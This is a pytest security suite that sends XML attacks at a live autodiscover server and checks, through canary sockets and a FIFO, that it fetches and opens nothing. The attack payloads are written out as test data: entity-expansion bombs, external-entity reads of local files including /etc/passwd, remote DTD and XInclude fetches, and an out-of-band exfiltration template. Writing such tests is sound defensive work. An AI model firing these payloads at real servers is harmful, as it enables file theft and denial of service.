"""XML attacks on the one endpoint that parses XML: POST /autodiscover/autodiscover.xml, in every
letter case the router accepts and in both request families (Outlook POX and mobilesync).

Against a live server process, because the attacks aim at that process: its memory, its time and
its access to files and the network. Three canaries prove that nothing was fetched or opened:

- a TCP listener on loopback that every network reference points at: a connection would wait in
  its backlog even unaccepted, so `select` on it after each attack must see nothing;
- a FIFO that every file reference points at: opening a FIFO for reading blocks until a writer
  comes, so a watcher thread that keeps trying to open the writing end (which fails unless a
  reader is waiting) cannot miss an open, however short;
- a regular file with a secret that must never appear in an answer.

Memory is the server's peak resident size (VmHWM), read before and after the whole series.
"""

import contextlib
import errno
import os
import select
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from autoconfig.formats.mobilesync import REQUEST_NS as MOBILESYNC_REQUEST_NS
from autoconfig.web.autodiscover import MAX_BODY_BYTES

from .security_support import (
    SECURITY_YAML,
    Answer,
    LiveServer,
    check_answer,
    crashes,
    live_server,
    peak_rss_bytes,
    raw_exchange,
    read_answer,
    xml_text,
)

OUTLOOK_REQUEST_NS = "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"
PATHS = (
    "/autodiscover/autodiscover.xml",
    "/Autodiscover/Autodiscover.xml",
    "/AUTODISCOVER/aUtOdIsCoVeR.XmL",
)
FAMILIES = {"outlook": OUTLOOK_REQUEST_NS, "mobilesync": MOBILESYNC_REQUEST_NS}
SECRET = "CANARY-SECRET-7f3a9c"
QUICK = 2.0
"""Seconds an attack may take to be answered; a normal answer takes about a millisecond."""
MEMORY_BOUND = 16 * 1024 * 1024
"""Peak resident growth allowed over the whole series: one expanded bomb would be gigabytes."""


@dataclass
class Canaries:
    port: int
    listener: socket.socket
    fifo: Path
    secret: Path
    fifo_opened: threading.Event

    def reset(self) -> None:
        self.connections()
        self.fifo_opened.clear()

    def connections(self, wait: float = 0.0) -> int:
        """Connections that reached the listener since the last call (accepted and closed).

        No wait is needed after an answer: the parse is synchronous, so a connection it made
        was established (and queued in the backlog) before the answer was sent.
        """
        count = 0
        while select.select([self.listener], [], [], wait)[0]:
            connection, _ = self.listener.accept()
            connection.close()
            count += 1
        return count


@pytest.fixture(scope="module")
def canaries(tmp_path_factory) -> Iterator[Canaries]:
    folder = tmp_path_factory.mktemp("canaries")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    fifo = folder / "fifo"
    os.mkfifo(fifo)
    secret = folder / "secret.txt"
    secret.write_text(SECRET)
    opened = threading.Event()
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                descriptor = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno != errno.ENXIO:
                    raise
                time.sleep(0.002)
                continue
            opened.set()  # a reader is waiting: somebody opened the file
            with contextlib.suppress(OSError):
                os.write(descriptor, SECRET.encode())
            os.close(descriptor)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    found = Canaries(listener.getsockname()[1], listener, fifo, secret, opened)
    yield found
    assert found.connections(wait=0.5) == 0, "a late connection reached the canary listener"
    stop.set()
    watcher.join(timeout=5)
    listener.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[LiveServer]:
    with live_server(SECURITY_YAML, tmp_path_factory.mktemp("xml")) as running:
        yield running
        assert running.alive(), running.stderr()
        assert crashes(running.stderr()) == []


def _request(namespace: str, address: str = "a@plain.example", schema: str = "") -> str:
    schema_element = (
        f"<AcceptableResponseSchema>{schema}</AcceptableResponseSchema>" if schema else ""
    )
    return (
        f'<Autodiscover xmlns="{namespace}"><Request>'
        f"<EMailAddress>{address}</EMailAddress>{schema_element}"
        "</Request></Autodiscover>"
    )


LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(10)
)

# name -> (expected outcome, template). {ns} is the request namespace; {http}, {file}, {fifo}
# and {secret} point at the canaries. "600" means Autodiscover error 600; "any" means a normal,
# well-formed answer (the attack rides on something the parser ignores) with nothing fetched.
ATTACKS: dict[str, tuple[str, str]] = {
    "billion-laughs": ("600", f"<!DOCTYPE Autodiscover [{LAUGHS}]>" + _request("{ns}", "&l9;@x")),
    "billion-laughs-in-attribute": (
        "600",
        f"<!DOCTYPE Autodiscover [{LAUGHS}]>"
        '<Autodiscover xmlns="{ns}" a="&l9;"><Request><EMailAddress>a@plain.example'
        "</EMailAddress></Request></Autodiscover>",
    ),
    "quadratic-blowup": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY a "'
        + "x" * 4000
        + '">]>'
        + _request("{ns}", "&a;" * 3000 + "@plain.example"),
    ),
    "external-entity-file": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY x SYSTEM "file://{secret}">]>'
        + _request("{ns}", "&x;@plain.example"),
    ),
    "external-entity-fifo": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY x SYSTEM "file://{fifo}">]>'
        + _request("{ns}", "&x;@plain.example"),
    ),
    "external-entity-http": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY x SYSTEM "{http}/entity">]>'
        + _request("{ns}", "&x;@plain.example"),
    ),
    "parameter-entity-http": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY % p SYSTEM "{http}/param"> %p;]>' + _request("{ns}"),
    ),
    "oob-exfiltration": (
        "600",
        '<!DOCTYPE Autodiscover [<!ENTITY % f SYSTEM "file://{fifo}">'
        "<!ENTITY % d \"<!ENTITY &#x25; e SYSTEM '{http}/?%f;'>\"> %d; %e;]>" + _request("{ns}"),
    ),
    "dtd-fetch-system": ("600", '<!DOCTYPE Autodiscover SYSTEM "{http}/a.dtd">' + _request("{ns}")),
    "dtd-fetch-public": (
        "600",
        '<!DOCTYPE Autodiscover PUBLIC "-//X//EN" "{http}/b.dtd">' + _request("{ns}"),
    ),
    "dtd-default-attribute": (
        "600",
        '<!DOCTYPE Autodiscover [<!ATTLIST Autodiscover a CDATA "x">]>' + _request("{ns}"),
    ),
    "xinclude-http": (
        "600",
        '<Autodiscover xmlns="{ns}" xmlns:xi="http://www.w3.org/2001/XInclude"><Request>'
        '<EMailAddress><xi:include href="{http}/inc" parse="text"/></EMailAddress>'
        "</Request></Autodiscover>",
    ),
    "xinclude-file": (
        "600",
        '<Autodiscover xmlns="{ns}" xmlns:xi="http://www.w3.org/2001/XInclude"><Request>'
        '<EMailAddress><xi:include href="{fifo}" parse="text"/></EMailAddress>'
        "</Request></Autodiscover>",
    ),
    "xml-stylesheet": (
        "any",
        '<?xml-stylesheet type="text/xsl" href="{http}/x.xsl"?>' + _request("{ns}"),
    ),
    "schema-location": (
        "any",
        '<Autodiscover xmlns="{ns}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="{ns} {http}/s.xsd" xsi:noNamespaceSchemaLocation="{http}/n.xsd">'
        "<Request><EMailAddress>a@plain.example</EMailAddress></Request></Autodiscover>",
    ),
    "deep-nesting": ("600", "<Autodiscover>" + "<a>" * 2000 + "</a>" * 2000 + "</Autodiscover>"),
    "deep-nesting-in-request": (
        "600",
        '<Autodiscover xmlns="{ns}"><Request>'
        + "<EMailAddress>" * 500
        + "a@plain.example"
        + "</EMailAddress>" * 500
        + "</Request></Autodiscover>",
    ),
    "huge-text-node": ("600", _request("{ns}", "a" * 15000 + "@plain.example")),
    "huge-attribute": (
        "any",
        '<Autodiscover xmlns="{ns}" a="' + "x" * 15000 + '"><Request>'
        "<EMailAddress>a@plain.example</EMailAddress></Request></Autodiscover>",
    ),
    "many-attributes": (
        "any",
        '<Autodiscover xmlns="{ns}" '
        + " ".join(f'a{n}="x"' for n in range(1500))
        + "><Request><EMailAddress>a@plain.example</EMailAddress></Request></Autodiscover>",
    ),
    "many-namespaces": (
        "any",
        '<Autodiscover xmlns="{ns}" '
        + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(700))
        + "><Request><EMailAddress>a@plain.example</EMailAddress></Request></Autodiscover>",
    ),
    "cdata-markup": (
        "any",
        _request("{ns}", '<![CDATA["<x-pwn>"@plain.example]]>'),
    ),
    "char-reference-to-nul": ("600", _request("{ns}", "a&#0;@plain.example")),
    "char-reference-to-control": ("600", _request("{ns}", "a&#x1b;@plain.example")),
    "undeclared-entity": ("600", _request("{ns}", "&x-pwn;@plain.example")),
    "comment-split-address": ("any", _request("{ns}", "a<!--x-->@plain.example")),
    "processing-instruction": ("any", _request("{ns}", "a<?x-pwn?>@plain.example")),
}

FILE_REFERENCES = {
    "dtd-system-path": '<!DOCTYPE Autodiscover SYSTEM "{fifo}">' + _request("{ns}"),
    "dtd-system-file-url": '<!DOCTYPE Autodiscover SYSTEM "file://{fifo}">' + _request("{ns}"),
    "dtd-public-file-url": (
        '<!DOCTYPE Autodiscover PUBLIC "-//X//EN" "file://{fifo}">' + _request("{ns}")
    ),
    "parameter-entity-path": (
        '<!DOCTYPE Autodiscover [<!ENTITY % p SYSTEM "{fifo}"> %p;]>' + _request("{ns}")
    ),
    "parameter-entity-file-url": (
        '<!DOCTYPE Autodiscover [<!ENTITY % p SYSTEM "file://{fifo}"> %p;]>' + _request("{ns}")
    ),
}
"""Local files named where libxml2 looks for DTD text: the external subset and external
parameter entities (general entities are covered by ATTACKS and are not opened). libxml2 opened
these even with resolve_entities=False, load_dtd=False and no_network=True; xmlsafe.py now
refuses a DOCTYPE before parsing and resolves every external reference to nothing."""

ENCODINGS: dict[str, tuple[str, bytes]] = {
    "declared-utf16-sent-utf8": (
        "600",
        b'<?xml version="1.0" encoding="UTF-16"?>' + _request(OUTLOOK_REQUEST_NS).encode(),
    ),
    "utf16-bom-declared-utf8": (
        "any",
        '<?xml version="1.0" encoding="UTF-8"?>'.encode("utf-16")
        + _request(OUTLOOK_REQUEST_NS).encode("utf-16-le"),
    ),
    "utf16-xxe": (
        "600",
        (
            '<?xml version="1.0" encoding="UTF-16"?>'
            '<!DOCTYPE Autodiscover [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + _request(OUTLOOK_REQUEST_NS, "&x;@plain.example")
        ).encode("utf-16"),
    ),
    "utf32": ("any", _request(OUTLOOK_REQUEST_NS).encode("utf-32")),
    "utf7-markup": (
        "600",
        b'<?xml version="1.0" encoding="UTF-7"?>'
        + _request(OUTLOOK_REQUEST_NS, "+ADw-x-pwn+AD4-@plain.example").encode(),
    ),
    "unknown-encoding": (
        "600",
        b'<?xml version="1.0" encoding="x-no-such"?>' + _request(OUTLOOK_REQUEST_NS).encode(),
    ),
    "ebcdic": (
        "600",
        '<?xml version="1.0" encoding="IBM037"?>'.encode("cp037")
        + _request(OUTLOOK_REQUEST_NS).encode("cp037"),
    ),
    "invalid-utf8": (
        "600",
        _request(OUTLOOK_REQUEST_NS, "a\udcff@plain.example").encode("utf-8", "surrogateescape"),
    ),
    "overlong-utf8-lt": ("600", _request(OUTLOOK_REQUEST_NS).encode().replace(b"a@", b"\xc0\xbc@")),
    "latin1-declared-utf8": (
        "600",
        _request(OUTLOOK_REQUEST_NS, "bücher@plain.example").encode("latin-1"),
    ),
    "nul-bytes": ("600", _request(OUTLOOK_REQUEST_NS).encode().replace(b"a@", b"a\x00@")),
}


def _fill(template: str, namespace: str, canaries: Canaries) -> bytes:
    return (
        template.replace("{ns}", namespace)
        .replace("{http}", f"http://127.0.0.1:{canaries.port}")
        .replace("{file}", str(canaries.secret))
        .replace("{fifo}", str(canaries.fifo))
        .replace("{secret}", str(canaries.secret))
        .encode("utf-8")
    )


def _post(server: LiveServer, path: str, body: bytes, extra: bytes = b"") -> tuple[Answer, float]:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: autodiscover.plain.example\r\n"
        f"Content-Type: text/xml\r\nContent-Length: {len(body)}\r\n"
    ).encode()
    started = time.monotonic()
    answer = raw_exchange(server.port, head + extra + b"\r\n" + body, "POST", timeout=QUICK + 3)
    return answer, time.monotonic() - started


def _judge(answer: Answer, elapsed: float, expected: str, canaries: Canaries) -> None:
    document = check_answer(answer)
    assert elapsed < QUICK, f"{elapsed:.2f} s: {answer.describe()}"
    assert canaries.connections() == 0, "the server connected to the canary listener"
    assert not canaries.fifo_opened.is_set(), "the server opened the canary file"
    assert SECRET.encode() not in answer.body
    if expected == "600":
        assert answer.status == 200, answer.describe()
        assert xml_text(document, "ErrorCode") == ["600"], answer.describe()
    else:
        assert answer.status in (200, 302), answer.describe()


@pytest.fixture(scope="module")
def memory(server) -> Iterator[None]:
    """The whole series must fit in a bounded peak: compare VmHWM before and after it."""
    raw_exchange(server.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
    before = peak_rss_bytes(server.pid)
    yield
    after = peak_rss_bytes(server.pid)
    growth = after - before
    print(f"\nXML attacks: peak RSS {before / 2**20:.1f} -> {after / 2**20:.1f} MiB")
    assert growth < MEMORY_BOUND, f"peak RSS grew by {growth / 2**20:.1f} MiB"


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize("name", ATTACKS)
def test_xml_attack(server, canaries, memory, name, family):
    canaries.reset()
    expected, template = ATTACKS[name]
    body = _fill(template, FAMILIES[family], canaries)
    assert len(body) <= MAX_BODY_BYTES, f"{name} is {len(body)} bytes: it would only test the cap"
    for path in PATHS:
        answer, elapsed = _post(server, path, body)
        _judge(answer, elapsed, expected, canaries)
        if expected == "any" and name in ("cdata-markup",):
            assert b"<x-pwn" not in answer.body


@pytest.mark.parametrize("name", FILE_REFERENCES)
def test_dtd_file_references_open_no_file(server, canaries, memory, name):
    canaries.reset()
    body = _fill(FILE_REFERENCES[name], OUTLOOK_REQUEST_NS, canaries)
    answer, _elapsed = _post(server, PATHS[0], body)
    assert xml_text(check_answer(answer), "ErrorCode") == ["600"], answer.describe()
    assert SECRET.encode() not in answer.body
    assert canaries.connections() == 0
    assert not canaries.fifo_opened.is_set(), "the server opened the canary file"


def test_a_blocking_file_reference_does_not_stall_other_clients(tmp_path):
    """The parse runs on the event loop: a file whose open blocks (a FIFO, a terminal,
    /proc/kmsg as root) would stall every other client of the process."""
    fifo = tmp_path / "stall"
    os.mkfifo(fifo)
    body = f'<!DOCTYPE Autodiscover SYSTEM "{fifo}">{_request(OUTLOOK_REQUEST_NS)}'.encode()
    head = (
        "POST /autodiscover/autodiscover.xml HTTP/1.1\r\nHost: x\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode()
    with live_server(SECURITY_YAML, tmp_path) as stalled:
        attacker = socket.create_connection(("127.0.0.1", stalled.port), timeout=5)
        try:
            attacker.sendall(head + body)
            time.sleep(0.3)
            answer = raw_exchange(
                stalled.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n", timeout=QUICK
            )
            assert answer.status == 200
        finally:
            with contextlib.suppress(OSError):  # let a blocked open finish, so the server stops
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            attacker.close()


@pytest.mark.parametrize("name", ENCODINGS)
def test_wrong_encoding(server, canaries, memory, name):
    canaries.reset()
    expected, body = ENCODINGS[name]
    answer, elapsed = _post(server, PATHS[0], body)
    _judge(answer, elapsed, expected, canaries)


@pytest.mark.parametrize("name", ["billion-laughs", "external-entity-http", "deep-nesting"])
def test_oversized_attack_is_413_before_parsing(server, canaries, memory, name):
    """Padded past 16 KiB, the same attacks are refused by size: the parser never sees them."""
    canaries.reset()
    _, template = ATTACKS[name]
    body = _fill(template, OUTLOOK_REQUEST_NS, canaries)
    body = body.replace(b"<Autodiscover", b"<!--" + b"x" * MAX_BODY_BYTES + b"--><Autodiscover", 1)
    answer, elapsed = _post(server, PATHS[0], body)
    check_answer(answer)
    assert answer.status == 413, answer.describe()
    assert elapsed < QUICK
    assert canaries.connections() == 0


def test_huge_declared_length_is_413_without_waiting_for_the_body(server, memory):
    """A client that announces a gigabyte is refused at once, before a byte of body is read."""
    head = (
        b"POST /autodiscover/autodiscover.xml HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: text/xml\r\nContent-Length: 1000000000\r\n\r\n"
    )
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
        sock.sendall(head + b"<Autodiscover>")
        answer = read_answer(sock, "POST", "/autodiscover/autodiscover.xml", QUICK + 3)
    assert answer.status == 413, answer.describe()
    assert time.monotonic() - started < QUICK


def test_endless_chunked_body_is_413(server, memory):
    """Chunked bodies carry no length: the cap must hold while the body streams in."""
    head = (
        b"POST /autodiscover/autodiscover.xml HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"%x\r\n%s\r\n" % (4096, b"<a>" * 1365 + b"x")
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
        sock.sendall(head)
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            for _ in range(64):  # 256 KiB offered, far past the 16 KiB cap
                sock.sendall(chunk)
                if select.select([sock], [], [], 0)[0]:
                    break
        answer = read_answer(sock, "POST", "/autodiscover/autodiscover.xml", QUICK + 3)
    assert answer.status == 413, answer.describe()
    assert time.monotonic() - started < QUICK


@pytest.mark.parametrize(
    "path",
    [
        "/mail/config-v1.1.xml",
        "/v1.1/plain.example",
        "/autodiscover/autodiscover.json",
        "/email.mobileconfig",
        "/settings",
        "/.well-known/user-agent-configuration.json",
        "/healthz",
    ],
)
def test_other_endpoints_do_not_parse_xml_bodies(server, canaries, memory, path):
    """Every other endpoint is GET-only: an XML attack posted to it is 405, read by nobody."""
    canaries.reset()
    _, template = ATTACKS["external-entity-http"]
    answer, elapsed = _post(server, path, _fill(template, OUTLOOK_REQUEST_NS, canaries))
    check_answer(answer)
    assert answer.status == 405, answer.describe()
    assert elapsed < QUICK
    assert canaries.connections() == 0
